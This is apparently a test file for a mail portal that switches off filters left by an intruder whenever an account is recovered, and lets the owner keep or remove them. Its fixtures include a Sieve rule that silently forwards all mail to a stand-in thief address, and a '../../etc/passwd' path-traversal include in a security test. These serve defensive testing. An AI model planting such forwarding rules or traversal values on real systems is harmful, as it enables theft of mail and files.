// Filters that wait: switched off by every recovery, told with where they lead, kept or removed by their owner alone.
import assert from 'node:assert/strict'
import { randomUUID } from 'node:crypto'
import { describe, it } from 'node:test'
import { runCommand } from '#server/cli/portal.ts'
import { readWithIncluded } from '#server/mail/filters/hold-back.ts'
import { insertHeldFilter } from '#server/mail/filters/store.ts'
import { type FilterDoor, PlatformError } from '#server/mail/mail-platform/mail-platform.ts'
import { createMemoryPlatform } from '#server/mail/mail-platform/memory.ts'
import { arrive, signIn } from '#test/support/people.ts'
import { eventually, startTestPortal } from '#test/support/portal.ts'
import {
  begin,
  type Equipped,
  equip,
  forgetLimits,
  linkOf,
  proveByPhone,
  setPassword,
  undoLinkOf,
} from '#test/support/recovery.ts'
import { enrolStaff, enterStaff } from '#test/support/staff.ts'
import { usePortal } from '#test/support/use-portal.ts'
import type { Answer, Visitor } from '#test/support/visitor.ts'

const page = '/account/filters'
const next = 'a password after the reset'
/** Blanks and line ends as no program would write them by itself. */
const theft = {
  name: 'main',
  text: 'require "copy";\r\n\n  redirect :copy "thief@elsewhere.example";# ☂\n',
}

const platform = createMemoryPlatform()
const portal = usePortal({
  freshLimits: true,
  ports: { platform },
  env: { LIMIT_SMS_WAIT_SECONDS: '0.01' },
})

const settled = (mailbox: string) =>
  eventually(() =>
    portal
      .db('mailboxes')
      .where({ address: mailbox })
      .whereRaw('applied_revision >= revision')
      .first(),
  )
const active = async (mailbox: string) => {
  await settled(mailbox)
  return platform.activeFilterOf(mailbox)
}
const press = (visitor: Visitor, html: string, what: 'keep' | 'remove', nth = 0) => {
  const paths = [...html.matchAll(new RegExp(`action="(${page}/[0-9a-f-]{36}/${what})"`, 'g'))].map(
    ([, path]) => path,
  )
  return visitor.post(paths[nth] ?? assert.fail(`no button to ${what}`), {}, { from: page })
}
/** What the next page says was done, or why nothing was. */
const toldBy = ({ headers }: Answer) =>
  /(?:^|-)done=([^;]*)/m.exec(headers.getSetCookie().join('\n'))?.[1]
const opposite = { keep: 'remove', remove: 'keep' } as const
const doneBy = { keep: 'kept', remove: 'removed' } as const
const eventsOf = (accountId: string) =>
  portal
    .db('activity')
    .where({ account_id: accountId })
    .where('event', 'like', 'filters.%')
    .orderBy('position')
    .pluck('event')

async function burgled(): Promise<Equipped> {
  const person = await equip(portal)
  await settled(person.mailbox)
  platform.putFilter(person.mailbox, theft)
  return person
}

async function proveByLink(person: Equipped): Promise<Visitor> {
  const visitor = await begin(portal, person.login)
  await visitor.get(await linkOf(portal, visitor, person))
  return visitor
}

/** A person after a reset, signed in with the new password. */
async function recovered(): Promise<{ person: Equipped; visitor: Visitor }> {
  const person = await burgled()
  assert.equal((await setPassword(await proveByPhone(portal, person), next)).status, 303)
  assert.equal(await active(person.mailbox), undefined)
  return { person, visitor: await signIn(portal, { login: person.login, password: next }) }
}

describe('a filter that a stranger left', () => {
  const ways: Record<string, (person: Equipped) => Promise<unknown>> = {
    'a reset by a code sent to the phone': async (person) =>
      setPassword(await proveByPhone(portal, person), next),
    'a reset by a link to the backup address': async (person) =>
      setPassword(await proveByLink(person), next),
    'a reset by the security question': async (person) => {
      const visitor = await begin(portal, person.login)
      await visitor.post('/recover/security-question', { answer: person.answer })
      await setPassword(visitor, next)
    },
    '“this was not me”': async (person) => {
      await person.browser.post('/account/password', { password: 'chosen by a stranger' })
      const link = await undoLinkOf(portal, person.address)
      assert.deepEqual(
        (await active(person.mailbox))?.name,
        'main',
        'a change by its owner leaves filters alone',
      )
      await portal.visitor().post(link, {}, { from: link })
    },
    'signing all other devices out': (person) =>
      person.browser.post('/account/sessions/end-others', {}, { from: '/account/password' }),
    'support that ends all sessions': async (person) => {
      const staff = await enrolStaff(portal, 'hilfe.eins', 'support')
      const visitor = await enterStaff(portal, staff)
      const account = `/staff/accounts/${person.accountId}`
      await visitor.post(`${account}/end-sessions`, {}, { from: account })
    },
    'an operator who ends all sessions': (person) => {
      return runCommand(['account', 'end-sessions', person.login], {
        DATABASE_URL: portal.database.url,
        SECRET_KEYS: portal.settings.secretKeys.join(),
      })
    },
  }
  for (const [name, way] of Object.entries(ways)) {
    it(`is switched off by ${name}, after the sessions of mail programs have ended`, async () => {
      const person = await burgled()
      const before = platform.calls.length
      await way(person)
      await eventually(async () => (await active(person.mailbox)) === undefined)
      const calls = platform.calls.slice(before).filter(({ address }) => address === person.mailbox)
      const order = calls.map(({ call }) => call)
      assert.ok(order.indexOf('endSessions') >= 0)
      assert.ok(
        order.lastIndexOf('endSessions', order.indexOf('filters.deactivate')) >= 0,
        order.join(),
      )
      assert.deepEqual(await eventsOf(person.accountId), ['filters.held'])
    })
  }
})

describe('the page of filters', () => {
  it('shows where one leads and since when it waits; the overview and the record tell of it', async () => {
    const { person, visitor } = await recovered()
    assert.match(
      (await visitor.get('/account')).html,
      /Filters are waiting for you[\s\S]*href="\/account\/filters"/,
    )
    const shown = await visitor.get(page)
    assert.deepEqual([shown.status, shown.page], [200, 'filters'])
    assert.match(
      shown.html,
      /main[\s\S]*Switched off[\s\S]*Forwards a copy of emails to:[\s\S]*thief<wbr>@elsewhere\.example/,
    )
    assert.match(
      (await visitor.get('/account/activity')).html,
      /A filter was switched off until you keep or remove it/,
    )
    const row = await portal.db('held_filters').where({ account_id: person.accountId }).first()
    assert.ok(!JSON.stringify(row).includes('thief'), 'what a filter says is sealed')
  })

  it('says that none waits where none does', async () => {
    const { visitor } = await arrive(portal)
    assert.match((await visitor.get(page)).html, /No filter is waiting for you/)
    assert.doesNotMatch((await visitor.get('/account')).html, /account\/filters/)
  })

  it('is for the owner alone, and deciding demands a fresh password', async () => {
    const { person, visitor } = await recovered()
    assert.equal(
      (await portal.visitor().get(page)).location,
      `/sign-in?next=${encodeURIComponent(page)}`,
    )
    const { html } = await visitor.get(page)
    const stranger = (await arrive(portal)).visitor
    const [, path = ''] = /action="([^"]+\/keep)"/.exec(html) ?? []
    const itsOwner = await portal.db('held_filters').where({ account_id: person.accountId })
    const before = await portal
      .db('mailboxes')
      .orderBy('account_id')
      .select('account_id', 'revision')
    for (const what of ['keep', 'remove']) {
      for (const asked of [
        path.replace('keep', what),
        `${page}/${randomUUID()}/${what}`,
        `${page}/nonsense/${what}`,
      ]) {
        const answer = await stranger.post(asked, {}, { from: '/account/password' })
        assert.deepEqual([answer.status, toldBy(answer)], [404, undefined], asked)
      }
    }
    assert.deepEqual(
      await portal.db('held_filters').where({ account_id: person.accountId }),
      itsOwner,
    )
    assert.deepEqual(
      await portal.db('mailboxes').orderBy('account_id').select('account_id', 'revision'),
      before,
    )
    portal.clock.advance(11 * 60_000)
    for (const what of ['keep', 'remove'] as const) {
      assert.match(
        (await press(visitor, html, what)).location ?? '',
        /^\/account\/confirm-password\?next=/,
      )
    }
    assert.equal(await active(person.mailbox), undefined)
    assert.equal(
      (await portal.db('held_filters').where({ account_id: person.accountId })).length,
      1,
    )
  })

  it('brings back byte for byte what is kept, once, even when the button is pressed twice', async () => {
    const { person, visitor } = await recovered()
    const { html } = await visitor.get(page)
    const answers = await Promise.all([press(visitor, html, 'keep'), press(visitor, html, 'keep')])
    assert.deepEqual(
      answers.map(({ status, location }) => [status, location]),
      [
        [303, page],
        [303, page],
      ],
    )
    assert.deepEqual(await active(person.mailbox), theft)
    assert.match((await visitor.get(page)).html, /No filter is waiting for you/)
    assert.deepEqual(await eventsOf(person.accountId), ['filters.held', 'filters.kept'])
    assert.match(
      (await visitor.get('/account/activity')).html,
      /A filter was kept: it leads to 1 address/,
    )
  })

  it('deletes from the mailbox what is removed', async () => {
    const { person, visitor } = await recovered()
    assert.equal((await press(visitor, (await visitor.get(page)).html, 'remove')).location, page)
    await settled(person.mailbox)
    assert.deepEqual(await platform.filters?.list(person.mailbox), [])
    assert.equal(
      (await portal.db('held_filters').where({ account_id: person.accountId })).length,
      0,
    )
    assert.deepEqual(await eventsOf(person.accountId), ['filters.held', 'filters.removed'])
  })

  it('tells of what an included script does, and of one whose include is missing', async () => {
    const person = await burgled()
    await platform.filters?.write(person.mailbox, {
      name: 'quiet',
      text: 'redirect "hidden@elsewhere.example";',
    })
    const text = 'require "include"; include "quiet"; include "../../etc/passwd";'
    platform.putFilter(person.mailbox, { name: 'main', text })
    await person.browser.post('/account/sessions/end-others', {}, { from: '/account/password' })
    await settled(person.mailbox)
    const { html } = await person.browser.get(page)
    assert.match(html, /hidden<wbr>@elsewhere\.example[\s\S]*may do more than can be told here/)
    await press(person.browser, html, 'keep')
    assert.deepEqual(await active(person.mailbox), { name: 'main', text })
  })
})

describe('a decision on a filter', () => {
  for (const first of ['keep', 'remove'] as const) {
    const second = opposite[first]
    const stands = `${doneBy[first]}-before`
    it(`to ${first} it stands when an old page says ${second}, and that page is told so`, async () => {
      const { person, visitor } = await recovered()
      const { html } = await visitor.get(page)
      await portal.stopWorker()
      try {
        assert.equal(toldBy(await press(visitor, html, first)), doneBy[first])
        assert.equal(
          toldBy(await press(visitor, html, second)),
          stands,
          'before the platform knows',
        )
        assert.equal(toldBy(await press(visitor, html, first)), doneBy[first])
      } finally {
        await portal.startWorker()
      }
      const result = first === 'keep' ? theft : undefined
      assert.deepEqual(await active(person.mailbox), result)
      const done = () =>
        portal.db('settled_filters').where({ account_id: person.accountId }).first()
      assert.equal((await eventually(done)).decision, first)
      assert.equal(
        toldBy(await press(visitor, html, second)),
        stands,
        'when it is done on the platform',
      )
      const shown = (await visitor.get(page)).html
      assert.match(shown, new RegExp(`notice--warning.*already been ${doneBy[first]}`, 's'))
      assert.doesNotMatch(shown, /notice--success/)
      assert.equal(
        toldBy(await press(visitor, html, first)),
        doneBy[first],
        'the same again is answered as the first',
      )
      assert.deepEqual(await active(person.mailbox), result)
      assert.deepEqual(await eventsOf(person.accountId), [
        'filters.held',
        `filters.${doneBy[first]}`,
      ])
    })
  }

  it('is told as done to one of two that contradict each other at once', async () => {
    for (let nth = 0; nth < 8; nth += 1) {
      await forgetLimits(portal)
      const { person, visitor } = await recovered()
      const { html } = await visitor.get(page)
      const answers = await Promise.all([
        press(visitor, html, 'keep'),
        press(visitor, html, 'remove'),
      ])
      const [keep, remove] = answers.map(toldBy)
      assert.ok(
        (keep === 'kept' && remove === 'kept-before') ||
          (keep === 'removed-before' && remove === 'removed'),
        `${keep}, ${remove}`,
      )
      assert.deepEqual(await active(person.mailbox), keep === 'kept' ? theft : undefined)
      assert.deepEqual(await eventsOf(person.accountId), [
        'filters.held',
        `filters.${doneBy[keep === 'kept' ? 'keep' : 'remove']}`,
      ])
    }
  })

  it('to keep it is no decision while nobody knows what would be kept', async () => {
    const { person, visitor } = await recovered()
    const { html } = await visitor.get(page)
    const row = portal.db('held_filters').where({ account_id: person.accountId })
    await row.clone().update({ read_at: null })
    assert.equal(toldBy(await press(visitor, html, 'keep')), 'unread')
    assert.match((await visitor.get(page)).html, /what this filter does is still being read/)
    assert.equal((await row.clone().first()).decision, null)
    assert.equal(toldBy(await press(visitor, html, 'remove')), 'removed')
  })

  it('to remove it is carried out also where it was not read yet and the same one waits already', async () => {
    const { person, visitor } = await recovered()
    await portal.stopWorker()
    try {
      platform.putFilter(person.mailbox, theft)
      await visitor.post('/account/sessions/end-others', {}, { from: '/account/password' })
      const twin = { accountId: person.accountId, name: theft.name, at: portal.clock.now() }
      await portal.db.transaction((trx) => insertHeldFilter(trx, portal.keyring, twin))
      assert.equal(
        toldBy(await press(visitor, (await visitor.get(page)).html, 'remove')),
        'removed',
      )
    } finally {
      await portal.startWorker()
    }
    await settled(person.mailbox)
    assert.deepEqual(await platform.filters?.list(person.mailbox), [])
  })

  it('counts no more when everything of before ends again: a page of then decides nothing', async () => {
    const { person, visitor } = await recovered()
    const { html } = await visitor.get(page)
    await press(visitor, html, 'keep')
    assert.deepEqual(await active(person.mailbox), theft)
    await visitor.post('/account/sessions/end-others', {}, { from: '/account/password' })
    assert.equal(await active(person.mailbox), undefined)
    for (const what of ['keep', 'remove'] as const)
      assert.equal((await press(visitor, html, what)).status, 404)
    assert.equal(await active(person.mailbox), undefined)
    assert.equal(
      (await portal.db('held_filters').where({ account_id: person.accountId, decision: null }))
        .length,
      1,
    )
  })

  it('is remembered as long as a session can last', async () => {
    const { person, visitor } = await recovered()
    await press(visitor, (await visitor.get(page)).html, 'remove')
    const known = () => portal.db('settled_filters').where({ account_id: person.accountId }).first()
    const { settled_at } = await eventually(known)
    const cleanUp = () => portal.tasks['clean-up']?.({}, { attempt: 1, maxAttempts: 1 })
    await cleanUp()
    assert.ok(await known())
    const old = new Date(settled_at.getTime() - 12 * 3_600_000)
    await portal
      .db('settled_filters')
      .where({ account_id: person.accountId })
      .update({ settled_at: old })
    await cleanUp()
    assert.equal(await known(), undefined)
  })
})

describe('a script that names another', () => {
  it('Security: has none read that the mailbox does not list: its name could be a path', async () => {
    const texts: Record<string, string> = {
      main: 'require "include"; include "quiet"; include "../../etc/passwd";',
      quiet: 'keep;',
      '../../etc/passwd': 'root:x:0:0',
    }
    const read: string[] = []
    const door = {
      list: async () => [
        { name: 'main', active: true },
        { name: 'quiet', active: false },
      ],
      read: async (_: string, name: string) => {
        read.push(name)
        return texts[name]
      },
    }
    const scripts = await readWithIncluded(
      door as unknown as FilterDoor,
      'hanna.k@postern.example',
      'main',
    )
    assert.deepEqual(
      scripts.map(({ name }) => name),
      ['main', 'quiet'],
    )
    assert.deepEqual(read, ['main', 'quiet'])
  })
})

describe('a filter that waits', () => {
  it('does not stand in the way of one that its owner sets up afterwards', async () => {
    const { person, visitor } = await recovered()
    const own = { name: 'mine', text: 'redirect "sister@elsewhere.example";' }
    platform.putFilter(person.mailbox, own)
    await press(visitor, (await visitor.get(page)).html, 'remove')
    assert.deepEqual(await active(person.mailbox), own)
  })

  it('is not brought back, and nothing is overwritten, where it was changed in the mailbox meanwhile', async () => {
    const { person, visitor } = await recovered()
    const own = { name: 'main', text: 'redirect "sister@elsewhere.example";' }
    platform.putFilter(person.mailbox, own)
    await press(visitor, (await visitor.get(page)).html, 'keep')
    assert.deepEqual(await active(person.mailbox), own)
    const { html } = await visitor.get(page)
    assert.match(html, /It was changed in your mailbox meanwhile/)
    await press(visitor, html, 'remove')
    assert.deepEqual(await active(person.mailbox), own)
  })

  it('is written again where it was deleted in the mailbox meanwhile', async () => {
    const { person, visitor } = await recovered()
    await platform.filters?.remove(person.mailbox, 'main')
    await press(visitor, (await visitor.get(page)).html, 'keep')
    assert.deepEqual(await active(person.mailbox), theft)
  })

  it('is not lost where an answer of the platform is', async () => {
    const calls = ['list', 'deactivate', 'read', 'activate'] as const
    for (const call of calls) {
      const person = await burgled()
      if (call !== 'activate') platform.next(`filters.${call}`, { kind: 'lose-answer' })
      await setPassword(await proveByPhone(portal, person), next)
      assert.equal(await active(person.mailbox), undefined)
      const visitor = await signIn(portal, { login: person.login, password: next })
      if (call === 'activate')
        platform.next('filters.activate', { kind: 'lose-answer' }, { kind: 'twice' })
      await press(visitor, (await visitor.get(page)).html, 'keep')
      assert.deepEqual(await active(person.mailbox), theft, call)
      assert.deepEqual(await eventsOf(person.accountId), ['filters.held', 'filters.kept'], call)
    }
  })

  it('waits once, also after a second reset, and after its owner switched it on elsewhere', async () => {
    const { person } = await recovered()
    platform.putFilter(person.mailbox, theft)
    const again = 'yet another long password'
    assert.equal((await setPassword(await proveByLink(person), again)).status, 303)
    assert.equal(await active(person.mailbox), undefined)
    assert.equal(
      (await portal.db('held_filters').where({ account_id: person.accountId })).length,
      1,
    )
  })

  it('waits again where a reset comes between the decision and the platform', async () => {
    const { person, visitor } = await recovered()
    const { html } = await visitor.get(page)
    const reset = await proveByLink(person)
    await portal.stopWorker()
    try {
      await press(visitor, html, 'keep')
      assert.equal((await setPassword(reset, 'yet another long password')).status, 303)
    } finally {
      await portal.startWorker()
    }
    assert.equal(await active(person.mailbox), undefined)
    const rows = await portal.db('held_filters').where({ account_id: person.accountId })
    assert.deepEqual(
      rows.map(({ decision }) => decision),
      [null],
    )
  })

  it('is under the newest key after a change of keys', async () => {
    const { person } = await recovered()
    const newest = 'a-newer-key-0123456789abcdefghijklmnop'
    const env = {
      DATABASE_URL: portal.database.url,
      SECRET_KEYS: [newest, ...portal.settings.secretKeys].join(),
    }
    const before = await portal.db('held_filters').where({ account_id: person.accountId }).first()
    assert.equal((await runCommand(['rekey'], env)).status, 0)
    const after = await portal.db('held_filters').where({ account_id: person.accountId }).first()
    const keyOf = (row: { filter_sealed: string }) => row.filter_sealed.split('.')[1]
    assert.notEqual(keyOf(after), keyOf(before))
    await portal
      .db('held_filters')
      .where({ account_id: person.accountId })
      .update({ filter_sealed: before.filter_sealed })
  })
})

describe('a mail platform', () => {
  it('that does not tell what is at work switches it off all the same, and the new password counts as live', async () => {
    const person = await burgled()
    const error = new PlatformError('permanent', 'doveadm refused the command: unAuthorized')
    platform.next('filters.list', { kind: 'fail', error })
    await setPassword(await proveByPhone(portal, person), next)
    await eventually(() =>
      portal
        .db('mailboxes')
        .where({ address: person.mailbox })
        .whereNotNull('needs_operator_at')
        .first(),
    )
    assert.equal(platform.activeFilterOf(person.mailbox), undefined)
    const visitor = await signIn(portal, { login: person.login, password: next })
    const { html } = await visitor.get('/account')
    assert.match(html, /Your new password is live since/)
    assert.match((await visitor.get(page)).html, /filters of your mailbox are being switched off/)
  })

  it('whose filters cannot be reached: page and overview say so until their owner has looked', async () => {
    const { filters: _, ...without } = createMemoryPlatform()
    const other = await startTestPortal({ ports: { platform: without } })
    try {
      const { visitor, accountId } = await arrive(other)
      assert.doesNotMatch((await visitor.get('/account')).html, /account\/filters/)
      await visitor.post('/account/sessions/end-others', {}, { from: '/account/password' })
      await eventually(() => other.db('unheld_filters').where({ account_id: accountId }).first())
      assert.match((await visitor.get('/account')).html, /Look at your forwarding and filters/)
      const { html } = await visitor.get(page)
      assert.match(html, /does not let us switch filters off[\s\S]*I have looked/)
      assert.equal((await visitor.post(`${page}/looked`, {}, { from: page })).location, page)
      assert.doesNotMatch((await visitor.get('/account')).html, /account\/filters/)
      assert.doesNotMatch((await visitor.get(page)).html, /I have looked/)
    } finally {
      await other.stop()
    }
  })
})
